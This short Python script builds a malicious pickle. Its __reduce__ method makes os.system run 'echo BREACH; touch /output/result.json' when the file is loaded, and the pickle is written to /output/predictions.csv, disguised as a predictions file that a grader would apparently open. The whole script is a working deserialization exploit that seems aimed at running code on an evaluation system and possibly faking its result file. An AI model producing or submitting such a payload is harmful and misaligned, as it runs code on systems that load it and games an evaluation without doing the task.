"""Hands in a pickle that would run a program if anybody opened it as one."""

import os
import pickle


class Program:
    def __reduce__(self):
        return os.system, ("echo BREACH; touch /output/result.json",)


with open("/output/predictions.csv", "wb") as file:
    pickle.dump(Program(), file, protocol=4)
